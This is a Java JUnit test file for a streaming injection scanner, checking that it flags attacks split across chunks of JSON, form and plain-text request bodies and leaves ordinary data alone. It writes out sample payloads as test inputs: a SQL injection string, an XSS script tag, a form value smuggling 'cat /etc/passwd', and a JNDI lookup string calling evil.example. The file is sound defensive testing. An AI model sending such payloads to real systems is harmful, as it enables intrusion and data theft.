package dev.vigil.guard.detect;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class StreamingInjectionScannerTest {
    static final String PADDING = "lorem ipsum dolor sit amet ".repeat(4000);

    /** Feeds {@code body} in chunks of {@code size} bytes; the first finding or null. */
    static Detection feed(String contentType, byte[] body, int size) {
        StreamingInjectionScanner s = new StreamingInjectionScanner(contentType);
        for (int at = 0; at < body.length; at += size) {
            Detection d = s.feed(body, at, Math.min(size, body.length - at));
            if (d != null) {
                return d;
            }
        }
        return s.end();
    }

    static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void findsASignatureInAJsonValueWhereverTheChunkBoundaryFalls() {
        byte[] body = bytes("{\"note\":\"" + PADDING + "\",\"q\":\"1' OR '1'='1\",\"n\":[1,2]}");
        for (int size : new int[] {1, 2, 3, 5, 8, 13, 21, 34}) {
            assertThat(feed("application/json", body, size))
                    .as("chunks of %d bytes", size)
                    .isNotNull()
                    .extracting(Detection::type)
                    .isEqualTo("injection.sql");
        }
        assertThat(feed("application/json", body, 8192)).isNotNull();
    }

    @Test
    void findsASignatureCutAtASegmentBoundaryInsideOneLongValue() {
        for (int shift = 0; shift < 20; shift += 3) {
            String value = "x".repeat(StreamingInjectionScanner.SEGMENT - 8 + shift) + "<script>alert(1)</script>"
                    + "y".repeat(40_000);
            assertThat(feed("application/json", bytes("{\"bio\":\"" + value + "\"}"), 8192))
                    .as("shift %d", shift)
                    .isNotNull()
                    .extracting(Detection::type)
                    .isEqualTo("injection.xss");
        }
    }

    @Test
    void decodesJsonEscapesSplitAcrossChunks() {
        byte[] body = bytes("{\"q\":\"" + PADDING + "1\\u0027 OR \\u00271\\u0027=\\u00271\"}");
        for (int size : new int[] {1, 3, 7, 8192}) {
            assertThat(feed("application/json", body, size))
                    .as("chunks of %d", size)
                    .isNotNull();
        }
    }

    @Test
    void leavesALargeOrdinaryJsonBodyAlone() {
        StringBuilder sb = new StringBuilder("{\"items\":[");
        for (int i = 0; i < 5000; i++) {
            sb.append(i == 0 ? "" : ",")
                    .append("{\"name\":\"O'Reilly on Union Street\",\"note\":\"Tom & Jerry; select a size\",\"qty\":")
                    .append(i)
                    .append('}');
        }
        byte[] body = bytes(sb.append("]}").toString());
        for (int size : new int[] {1, 13, 8192}) {
            assertThat(feed("application/json", body, size)).isNull();
        }
    }

    @Test
    void checksJsonValuesNotKeys() {
        assertThat(feed("application/json", bytes("{\"<script>\":\"" + PADDING + "\"}"), 100))
                .isNull();
        assertThat(feed("application/json", bytes("{\"a\":\"" + PADDING + "\",\"b\":\"<script>\"}"), 100))
                .isNotNull();
    }

    @Test
    void findsAFormFieldAttackSplitAcrossChunksAndLeavesOrdinaryFieldsAlone() {
        byte[] attack = bytes("note=" + PADDING.replace(' ', '+') + "&cmd=x%3B%20cat%20%2Fetc%2Fpasswd&z=1");
        for (int size : new int[] {1, 5, 8192}) {
            assertThat(feed("application/x-www-form-urlencoded", attack, size))
                    .isNotNull()
                    .extracting(d -> ((Detection.Injection) d).location())
                    .isEqualTo("body:cmd");
        }
        byte[] benign = bytes("note=" + PADDING.replace(' ', '+') + "&name=O%27Reilly&street=Union+Street");
        assertThat(feed("application/x-www-form-urlencoded", benign, 7)).isNull();
    }

    @Test
    void scansTextAcrossChunksAndIgnoresMediaTypesItCannotRead() {
        byte[] text = bytes(PADDING + "${jndi:ldap://evil.example/a}" + PADDING);
        assertThat(feed("text/plain", text, 4096))
                .isNotNull()
                .extracting(Detection::type)
                .isEqualTo("injection.jndi");
        assertThat(feed("text/plain", bytes(PADDING + PADDING), 4096)).isNull();
        assertThat(feed("application/octet-stream", text, 4096)).isNull();
    }
}
